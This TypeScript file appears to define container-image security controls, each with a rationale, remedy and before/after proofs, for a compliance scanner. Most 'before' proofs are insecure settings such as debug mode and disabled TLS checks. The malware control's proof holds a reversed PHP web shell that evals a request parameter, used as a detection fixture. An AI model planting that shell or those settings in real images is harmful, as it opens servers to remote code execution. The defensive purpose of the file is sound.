import type { Control } from '../control.ts';
import { checks, findings, statement } from './evidence.ts';
import { dockerfile, file, imageConfig, imageDates, instructions } from './proof.ts';

export const imageContentsControls: readonly Control[] = [
  {
    id: 'PLM-IMAGE-HEALTHCHECK',
    family: 'image',
    title: 'Images say how to find out whether they are well',
    anchors: ['CP-10', 'SI-13'],
    why: 'A process that runs is not yet a service that works.',
    attack: 'A service that an attacker or a fault has stopped goes unnoticed, and traffic keeps going to it.',
    remedy: 'Add a HEALTHCHECK that asks the service itself.',
    evidence: [checks('dockerfile-healthcheck-missing', 'image-config-healthcheck-missing')],
    proofs: [
      instructions('CMD ["invoices"]', 'HEALTHCHECK --interval=10s CMD ["invoices", "--alive"]\nCMD ["invoices"]'),
      imageConfig({ Cmd: ['invoices'] }, { Cmd: ['invoices'], Healthcheck: { Test: ['CMD', 'invoices', '--alive'] } }),
    ],
  },
  {
    id: 'PLM-IMAGE-FEW-PACKAGES',
    family: 'image',
    title: 'Images have no package that nobody asked for',
    anchors: ['CM-7'],
    why: 'Each package is one more source of vulnerabilities and one more thing to use for an intruder.',
    attack: 'Intruders use the downloaders and interpreters that they find, so that they need to bring nothing.',
    remedy: 'Install without recommended packages, and one tool for one purpose.',
    evidence: [checks('dockerfile-apt-get-recommends', 'dockerfile-wget-and-curl')],
    proofs: [
      instructions(
        'RUN apt-get update && apt-get install -y jq\nRUN curl -fsSLO https://downloads.example.net/a\nRUN wget https://downloads.example.net/b',
        'RUN apt-get update && apt-get install -y --no-install-recommends jq\nRUN curl -fsSLO https://downloads.example.net/a',
      ),
    ],
  },
  {
    id: 'PLM-IMAGE-NO-LEFTOVERS',
    family: 'image',
    title: 'Lists and caches of package managers are not left in images',
    anchors: ['CM-7'],
    why: 'Lists and caches make images larger, slower to pull and older than they look.',
    attack: 'Stale lists make a later install bring outdated, vulnerable packages.',
    remedy: 'Remove them in the same step that made them, or use cache mounts.',
    evidence: [
      checks(
        'dockerfile-apt-lists',
        'dockerfile-apk-cache',
        'dockerfile-yum-cache',
        'dockerfile-dnf-cache',
        'dockerfile-microdnf-cache',
        'dockerfile-zypper-cache',
        'dockerfile-pip-cache',
      ),
    ],
    proofs: [
      instructions(
        'RUN apt-get update && apt-get install -y jq',
        'RUN apt-get update && apt-get install -y jq && rm -rf /var/lib/apt/lists/*',
      ),
      dockerfile(
        `FROM registry.example.net/base/tools:4
RUN apk add jq
RUN yum install -y jq
RUN dnf install -y jq
RUN microdnf install -y jq
RUN zypper --non-interactive install jq
RUN pip install requests==2.32.5`,
        `FROM registry.example.net/base/tools:4
RUN apk add --no-cache jq
RUN yum install -y jq && yum clean all
RUN dnf install -y jq && dnf clean all
RUN microdnf install -y jq && microdnf clean all
RUN zypper --non-interactive install jq && zypper clean --all
RUN pip install --no-cache-dir requests==2.32.5`,
      ),
    ],
  },
  {
    id: 'PLM-IMAGE-DEBUG-OFF',
    family: 'image',
    title: 'Images do not run in a debug or development mode',
    anchors: ['CM-6', 'CM-7', 'SI-11'],
    why: 'Debug modes show errors with their inner details, and often offer a console.',
    attack: 'Attackers read paths, settings and secrets in error pages, or run code in the debugger.',
    remedy: 'Set the mode for production in the image, and switch debugging on by hand where it is needed.',
    evidence: [checks('dockerfile-debug-mode', 'image-config-debug-mode')],
    proofs: [
      instructions('ENV DJANGO_DEBUG=1 FLASK_DEBUG=true', 'ENV FLASK_DEBUG=0'),
      imageConfig({ Env: ['NODE_ENV=development'] }, { Env: ['NODE_ENV=production'] }),
    ],
  },
  {
    id: 'PLM-IMAGE-TLS-VERIFIED',
    family: 'image',
    title: 'Programs in images check the certificates of their peers',
    anchors: ['SC-8', 'SC-23'],
    why: 'A variable that switches checks off works for every connection that programs in the container make.',
    attack: 'Somebody in the network answers for a database or service and reads what is sent to it.',
    remedy: 'Remove the variable and add the certificate authority that is missing.',
    evidence: [checks('image-config-tls-verification-off')],
    proofs: [imageConfig({ Env: ['PYTHONHTTPSVERIFY=0'] }, { Env: ['PYTHONHTTPSVERIFY=1'] })],
  },
  {
    id: 'PLM-IMAGE-LABELS',
    family: 'image',
    title: 'Images say what they were made from',
    anchors: ['CM-8', 'SR-4'],
    why: 'Without its source an image cannot be traced, rebuilt or assigned to anybody.',
    attack: 'In an incident nobody knows which source, which build and which team an image belongs to.',
    remedy: 'Set the labels `org.opencontainers.image.source`, `revision` and `version` in the build.',
    evidence: [checks('dockerfile-labels-missing', 'image-config-labels-missing')],
    proofs: [
      instructions(
        'LABEL team=billing',
        'LABEL org.opencontainers.image.source="https://git.example.net/invoices" org.opencontainers.image.revision="4f2c19a"',
      ),
      imageConfig(
        { Labels: { team: 'billing' } },
        {
          Labels: {
            'org.opencontainers.image.source': 'https://git.example.net/invoices',
            'org.opencontainers.image.revision': '4f2c19a',
          },
        },
      ),
    ],
  },
  {
    id: 'PLM-IMAGE-SIGNALS',
    family: 'image',
    title: 'The main program of an image is started without a shell around it',
    anchors: ['CM-6', 'CM-7'],
    why: 'A shell in front of the program takes its signals and interprets what it is given.',
    attack: 'Words in variables that an attacker controls become commands of the shell.',
    remedy: 'Write ENTRYPOINT and CMD as JSON lists.',
    evidence: [checks('dockerfile-entrypoint-shell-form', 'dockerfile-cmd-shell-form')],
    proofs: [instructions('ENTRYPOINT invoices --serve\nCMD invoices', 'ENTRYPOINT ["invoices"]\nCMD ["--serve"]')],
  },
  {
    id: 'PLM-IMAGE-SUPPORTED-BASE',
    family: 'image',
    title: 'Images are built on releases that still get security updates',
    anchors: ['SA-22', 'SI-2'],
    why: 'A release without support gets no fixes, however serious what is found in it.',
    attack: 'Attackers use holes of old releases for years, as they are known and stay open.',
    remedy: 'Move the base to a release that is supported.',
    evidence: [checks('dockerfile-base-end-of-life')],
    proofs: [dockerfile('FROM ubuntu:14.04', 'FROM debian:13.1-slim')],
  },
  {
    id: 'PLM-IMAGE-REBUILT',
    family: 'image',
    title: 'Images are rebuilt at least once a year',
    anchors: ['CM-3', 'SI-2'],
    why: 'An image is as old as its build: fixes come in only by building again.',
    attack: 'Holes that were mended long ago are still there in images that nobody rebuilt.',
    remedy: 'Rebuild on a schedule, at least monthly, and whenever the base is renewed.',
    evidence: [checks('image-config-age')],
    proofs: [imageDates('2024-03-01T08:00:00Z', '2026-11-01T08:00:00Z')],
  },
  {
    id: 'PLM-IMAGE-NO-CRITICAL-VULNERABILITIES',
    family: 'image',
    title: 'Images have no known critical vulnerability',
    anchors: ['RA-5', 'SI-2', 'SA-11'],
    why: 'A critical vulnerability mostly lets somebody take over the program from the network, without any rights.',
    attack: 'Attackers scan for them within hours of their publication, with programs that anybody can get.',
    remedy:
      'Update the package or the base image; where there is no fix, remove the package or record an exception that ends.',
    evidence: [findings('vulnerability', 'critical')],
    proofs: [],
  },
  {
    id: 'PLM-IMAGE-NO-HIGH-VULNERABILITIES',
    family: 'image',
    title: 'Images have no known vulnerability of high severity or above',
    anchors: ['RA-5', 'SI-2', 'SA-11'],
    why: 'Vulnerabilities of high severity give attackers a way in or further rights.',
    attack: 'They are combined: one to get in, one to get out of the container.',
    remedy:
      'Update the package or the base image within the time that your policy sets, or record an exception that ends.',
    evidence: [findings('vulnerability', 'high')],
    proofs: [],
  },
  {
    id: 'PLM-IMAGE-NO-KNOWN-VULNERABILITIES',
    family: 'image',
    title: 'Images have no known vulnerability of any severity',
    anchors: ['RA-5', 'SI-2'],
    why: 'What is known can be mended; each one left is a decision that somebody should have made.',
    attack: 'Attackers chain vulnerabilities of low severity to something serious.',
    remedy: 'Rebuild often on small bases, and record a decision for what remains.',
    evidence: [findings('vulnerability', 'any')],
    proofs: [],
  },
  {
    id: 'PLM-IMAGE-NO-MALWARE',
    family: 'image',
    title: 'Images have no malware in any layer',
    anchors: ['SI-3', 'SR-11'],
    why: 'Malware in an image runs wherever the image does, with the rights of the workload.',
    attack: 'Miners, back doors and stealers come with base images and dependencies from public places.',
    remedy: 'Find out how it got in, rebuild from clean sources, and treat everything the image could reach as seen.',
    evidence: [findings('malware', 'any')],
    proofs: [file('srv/www/update.php', '\n>? ;)]"c"[TSEUQER_$(lave@ php?<', '<?php echo date("Y-m-d"); ?>\n')],
  },
  {
    id: 'PLM-IMAGE-LICENCES',
    family: 'image',
    title: 'Software in images has licences that the organisation accepts',
    anchors: ['CM-10', 'SA-4'],
    why: 'Whoever ships software owes what its licences ask for, and some uses are not allowed at all.',
    attack: 'Terms that nobody read lead to claims, and to software that can no longer be updated.',
    remedy: 'List the licences of every image, decide which are accepted, and replace what is not.',
    evidence: [
      findings('licence', 'high'),
      statement('Are the licences of all software in the images known, and does the organisation accept their terms?'),
    ],
    proofs: [],
  },
  {
    id: 'PLM-IMAGE-PURPOSE',
    family: 'image',
    title: 'An image holds one service',
    anchors: ['CM-7', 'SC-2'],
    why: 'An image with several services has the rights, ports and holes of all of them.',
    attack: 'An intruder in the weakest service has the secrets and the network of the others.',
    remedy: 'Give each service an image of its own.',
    evidence: [statement('Does each image hold one service, with nothing in it that this service does not need?')],
    proofs: [],
  },
];
